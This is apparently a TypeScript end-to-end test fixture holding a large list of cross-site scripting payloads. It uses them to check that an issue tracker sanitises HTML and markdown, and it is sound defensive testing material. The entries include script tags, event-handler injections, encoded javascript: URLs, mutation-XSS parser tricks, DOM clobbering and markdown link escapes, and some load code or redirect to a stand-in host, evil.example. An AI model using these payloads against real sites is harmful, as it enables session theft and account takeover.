// Known cross-site scripting vectors, for issue titles and bodies (test/e2e/xss.test.ts). Each
// one, if it ever ran, would call the page's trap: `call` is a script expression such as
// `__xss(12)` that records which vector escaped. Drawn from the OWASP XSS filter evasion cheat
// sheet, PortSwigger's XSS cheat sheet, DOMPurify's mutation-XSS reports and markdown-specific
// link tricks.

export type XssVector = { name: string; payload: (call: string) => string }

const base64 = (text: string) => Buffer.from(text).toString('base64')

export const XSS_VECTORS: XssVector[] = [
  // <script> in its many spellings
  { name: 'script tag', payload: (call) => `<script>${call}</script>` },
  { name: 'upper-case script', payload: (call) => `<SCRIPT>${call}</SCRIPT>` },
  { name: 'script with a slash attribute', payload: (call) => `<script/xss>${call}</script>` },
  {
    name: 'script src data: URL',
    payload: (call) => `<script src="data:text/javascript,${call}"></script>`,
  },
  {
    name: 'script src elsewhere',
    payload: () => `<script src="https://evil.example/x.js"></script>`,
  },
  { name: 'nested script tags', payload: (call) => `<scr<script>ipt>${call}</scr</script>ipt>` },
  {
    name: 'doubled angle brackets',
    payload: (call) => `<<script>script>${call}<</script>/script>`,
  },
  {
    name: 'script hidden in a comment',
    payload: (call) => `<!--<img src="--><img src=x onerror=${call}//">`,
  },
  { name: 'unclosed script', payload: (call) => `<script>${call}` },
  // Event handlers
  { name: 'img onerror', payload: (call) => `<img src=x onerror=${call}>` },
  { name: 'img onerror, quoted', payload: (call) => `<img src="x" onerror="${call}">` },
  { name: 'mixed-case handler', payload: (call) => `<IMG SRC=x oNeRrOr=${call}>` },
  {
    name: 'handler in character references',
    payload: (call) =>
      `<img src=x onerror="${[...call].map((c) => `&#${c.charCodeAt(0)};`).join('')}">`,
  },
  { name: 'slashes instead of spaces', payload: (call) => `<img/src=x/onerror=${call}>` },
  { name: 'unclosed img', payload: (call) => `<img src=x:x onerror=${call}//` },
  {
    name: 'img srcset',
    payload: (call) => `<img src="https://x.example/a.png" srcset="javascript:${call}">`,
  },
  { name: 'svg onload', payload: (call) => `<svg onload=${call}>` },
  { name: 'svg child onload', payload: (call) => `<svg><g onload="${call}"></g></svg>` },
  { name: 'body onload', payload: (call) => `<body onload=${call}>` },
  {
    name: 'details ontoggle',
    payload: (call) => `<details open ontoggle=${call}><summary>x</summary></details>`,
  },
  {
    name: 'summary onclick',
    payload: (call) => `<details><summary onclick="${call}">x</summary></details>`,
  },
  { name: 'video source onerror', payload: (call) => `<video><source onerror="${call}"></video>` },
  { name: 'video onerror', payload: (call) => `<video src=x onerror=${call}></video>` },
  { name: 'audio onerror', payload: (call) => `<audio src=x onerror=${call}>` },
  { name: 'input autofocus onfocus', payload: (call) => `<input autofocus onfocus=${call}>` },
  {
    name: 'image input onerror',
    payload: (call) => `<input type="image" src=x onerror="${call}">`,
  },
  {
    name: 'task checkbox onclick',
    payload: (call) => `<input type="checkbox" checked onclick="${call}">`,
  },
  {
    name: 'select autofocus onfocus',
    payload: (call) => `<select autofocus onfocus=${call}></select>`,
  },
  {
    name: 'textarea autofocus onfocus',
    payload: (call) => `<textarea autofocus onfocus=${call}></textarea>`,
  },
  { name: 'marquee onstart', payload: (call) => `<marquee onstart=${call}>x</marquee>` },
  { name: 'div onmouseover', payload: (call) => `<div onmouseover="${call}">hover me</div>` },
  {
    name: 'link onclick',
    payload: (call) => `<a href="https://x.example" onclick="${call}">x</a>`,
  },
  { name: 'isindex', payload: (call) => `<isindex type=image src=1 onerror=${call}>` },
  // Script URLs in links, images, forms and frames
  { name: 'javascript: link', payload: (call) => `<a href="javascript:${call}">x</a>` },
  { name: 'mixed-case javascript: link', payload: (call) => `<a href="JaVaScRiPt:${call}">x</a>` },
  {
    name: 'hex-encoded javascript: link',
    payload: (call) => `<a href="&#x6A;avascript:${call}">x</a>`,
  },
  {
    name: 'decimal-encoded javascript: link',
    payload: (call) =>
      `<a href="${[...'javascript:'].map((c) => `&#${c.charCodeAt(0)};`).join('')}${call}">x</a>`,
  },
  {
    name: 'padded decimal encoding',
    payload: (call) => `<a href="&#0000106avascript:${call}">x</a>`,
  },
  { name: 'tab inside javascript:', payload: (call) => `<a href="java\tscript:${call}">x</a>` },
  {
    name: 'encoded tab inside javascript:',
    payload: (call) => `<a href="java&#x09;script:${call}">x</a>`,
  },
  {
    name: 'encoded newline inside javascript:',
    payload: (call) => `<a href="java&#10;script:${call}">x</a>`,
  },
  {
    name: 'leading space and control character',
    payload: (call) => `<a href=" &#14; javascript:${call}">x</a>`,
  },
  { name: 'entity in the scheme', payload: (call) => `<a href="javas&#99;ript:${call}">x</a>` },
  { name: '&colon; entity', payload: (call) => `<a href="javascript&colon;${call}">x</a>` },
  { name: 'vbscript: link', payload: () => `<a href="vbscript:msgbox(1)">x</a>` },
  {
    name: 'data: HTML link',
    payload: (call) =>
      `<a href="data:text/html;base64,${base64(`<script>opener.${call}</script>`)}">x</a>`,
  },
  { name: 'javascript: image', payload: (call) => `<img src="javascript:${call}">` },
  {
    name: 'data: SVG image',
    payload: (call) => `<img src="data:image/svg+xml,<svg onload='${call}'/>">`,
  },
  { name: 'protocol-relative link', payload: () => `<a href="//evil.example/">x</a>` },
  {
    name: 'form action',
    payload: (call) => `<form action="javascript:${call}"><button>go</button></form>`,
  },
  {
    name: 'button formaction',
    payload: (call) => `<form><button formaction="javascript:${call}">go</button></form>`,
  },
  {
    name: 'iframe javascript:',
    payload: (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  },
  {
    name: 'iframe srcdoc',
    payload: (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  },
  {
    name: 'iframe data: URL',
    payload: (call) => `<iframe src="data:text/html,<script>parent.${call}</script>"></iframe>`,
  },
  { name: 'object data', payload: (call) => `<object data="javascript:${call}"></object>` },
  { name: 'embed src', payload: (call) => `<embed src="javascript:${call}">` },
  // SVG and MathML
  { name: 'svg script', payload: (call) => `<svg><script>${call}</script></svg>` },
  {
    name: 'svg xlink:href',
    payload: (call) =>
      `<svg><a xlink:href="javascript:${call}"><text x="20" y="20">click</text></a></svg>`,
  },
  {
    name: 'svg animate onbegin',
    payload: (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  },
  {
    name: 'svg animate sets href',
    payload: (call) =>
      `<svg><a><animate attributeName=href values=javascript:${call} /><text x=20 y=20>click</text></a></svg>`,
  },
  {
    name: 'svg set adds a handler',
    payload: (call) => `<svg><set attributeName="onmouseover" to="${call}"/></svg>`,
  },
  { name: 'math href', payload: (call) => `<math href="javascript:${call}">click</math>` },
  {
    name: 'math maction',
    payload: (call) =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${call}">click</maction></math>`,
  },
  {
    name: 'math mglyph style (mXSS)',
    payload: (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  },
  {
    name: 'svg style id (mXSS)',
    payload: (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  },
  // Mutation XSS through parsing quirks
  {
    name: 'noscript title (mXSS)',
    payload: (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  },
  {
    name: 'template content',
    payload: (call) => `<template><img src=x onerror=${call}></template>`,
  },
  { name: 'title element', payload: (call) => `<title><img src=x onerror=${call}></title>` },
  {
    name: 'textarea content',
    payload: (call) => `<textarea><img src=x onerror=${call}></textarea>`,
  },
  { name: 'xmp content', payload: (call) => `<xmp><img src=x onerror=${call}></xmp>` },
  {
    name: 'table and textarea (mXSS)',
    payload: (call) => `<table><td><textarea></table><img src=x onerror=${call}>`,
  },
  {
    name: 'form inside form (mXSS)',
    payload: (call) =>
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>">`,
  },
  // Clobbering, redirection and restyling
  {
    name: 'form named getElementById',
    payload: () =>
      `<form name="getElementById"></form><img name="querySelector" src="https://x.example/a.png">`,
  },
  { name: 'img named cookie', payload: () => `<img name="cookie" src="https://x.example/a.png">` },
  {
    name: 'anchor id clobbers a global',
    payload: () =>
      `<a id="__remixContext" href="https://x.example">x</a><a id="__remixContext" name="state" href="https://x.example">y</a>`,
  },
  {
    name: 'anchor id x',
    payload: () => `<a id=x href="https://x.example">x</a><form id=main><input name=action></form>`,
  },
  {
    name: 'meta refresh',
    payload: (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  },
  {
    name: 'meta refresh elsewhere',
    payload: () => `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  },
  { name: 'base tag', payload: () => `<base href="https://evil.example/">` },
  {
    name: 'stylesheet link',
    payload: () => `<link rel="stylesheet" href="https://evil.example/x.css">`,
  },
  {
    name: 'style element',
    payload: (call) =>
      `<style>@import 'https://evil.example/x.css'; body { background: url("javascript:${call}") }</style>`,
  },
  {
    name: 'style url()',
    payload: (call) => `<div style="background:url(javascript:${call})">x</div>`,
  },
  {
    name: 'style expression()',
    payload: (call) => `<div style="width: expression(${call})">x</div>`,
  },
  {
    name: 'dialog alert',
    payload: () =>
      `<img src=x onerror=alert(document.domain)><script>confirm(1);prompt(1)</script>`,
  },
  // Markdown-specific
  { name: 'markdown link', payload: (call) => `[click](javascript:${call})` },
  { name: 'markdown link, upper-case', payload: (call) => `[click](JAVASCRIPT:${call})` },
  { name: 'markdown link, encoded', payload: (call) => `[click](&#x6A;avascript:${call})` },
  { name: 'markdown link, &colon;', payload: (call) => `[click](javascript&colon;${call})` },
  { name: 'markdown link in angle brackets', payload: (call) => `[click](<javascript:${call}>)` },
  { name: 'markdown image', payload: (call) => `![x](javascript:${call})` },
  { name: 'markdown image breaks out', payload: (call) => `![x](x" onerror="${call})` },
  {
    name: 'markdown link title breaks out',
    payload: (call) => `[x](https://x.example "a\\" onmouseover=\\"${call}")`,
  },
  { name: 'markdown autolink', payload: (call) => `<javascript:${call}>` },
  { name: 'markdown reference link', payload: (call) => `[click][r]\n\n[r]: javascript:${call}` },
  { name: 'markdown reference image', payload: (call) => `![x][r]\n\n[r]: javascript:${call}` },
  {
    name: 'markdown data: link',
    payload: (call) => `[x](data:text/html;base64,${base64(`<script>${call}</script>`)})`,
  },
  { name: 'markdown vbscript: link', payload: () => `[x](vbscript:msgbox(1))` },
  { name: 'raw HTML block', payload: (call) => `<div>\n<img src=x onerror=${call}>\n</div>` },
  {
    name: 'HTML inside a list',
    payload: (call) => `- item <svg onload=${call}>\n- <b onclick="${call}">bold</b>`,
  },
  {
    name: 'HTML inside a table',
    payload: (call) => `| a |\n|---|\n| <img src=x onerror=${call}> |`,
  },
  {
    name: 'fenced code language',
    payload: (call) => `\`\`\`" onmouseover="${call}\ncode\n\`\`\``,
  },
  { name: 'code span', payload: (call) => `\`<img src=x onerror=${call}>\`` },
  {
    name: 'link text with HTML',
    payload: (call) => `[<img src=x onerror=${call}>](https://x.example)`,
  },
]
